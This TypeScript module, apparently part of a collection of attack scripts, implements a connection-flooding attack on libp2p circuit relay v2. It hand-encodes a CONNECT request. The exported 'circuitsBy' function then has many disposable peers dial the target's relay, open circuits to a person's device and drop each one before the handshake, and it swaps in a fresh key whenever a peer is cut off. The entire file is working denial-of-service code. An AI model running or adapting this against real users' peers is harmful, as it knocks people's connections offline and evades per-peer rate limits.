import { RELAY_V2_HOP_CODEC } from '@libp2p/circuit-relay-v2';
import type { Connection, PeerId } from '@libp2p/interface';
import { lpStream } from '@libp2p/utils';
import { multiaddr } from '@multiformats/multiaddr';
import { withoutEnd } from './attack.ts';
import type { Attack } from './attack.ts';
import { aStranger, deviceOf } from './stranger.ts';

/** HopMessage { type: CONNECT, peer: { id } } (circuit relay v2 specification). */
function askFor(device: PeerId): Uint8Array {
  const id = device.toMultihash().bytes;
  return Uint8Array.of(0x08, 0x01, 0x12, id.length + 2, 0x0a, id.length, ...id);
}

/** Asks for a circuit, and drops it as soon as the person's page has taken it: before the handshake over it. */
async function openAndDrop(connection: Connection, request: Uint8Array): Promise<void> {
  const stream = await connection.newStream(RELAY_V2_HOP_CODEC);
  const frames = lpStream(stream);
  await frames.write(request);
  await frames.read();
  stream.abort(new Error('dropped'));
}

/** So many strangers open circuits to the person and drop them, each under a new key when it was cut. */
export const circuitsBy =
  (strangers: number): Attack =>
  async (target, onCut) => {
    const request = askFor(await deviceOf(await aStranger(), target));
    await withoutEnd(strangers, async () => {
      const stranger = await aStranger();
      try {
        const connection = await stranger.dial(multiaddr(target.relay));
        while (connection.status === 'open') {
          await openAndDrop(connection, request).catch(() => undefined);
        }
        onCut();
      } finally {
        await stranger.stop();
      }
    });
  };
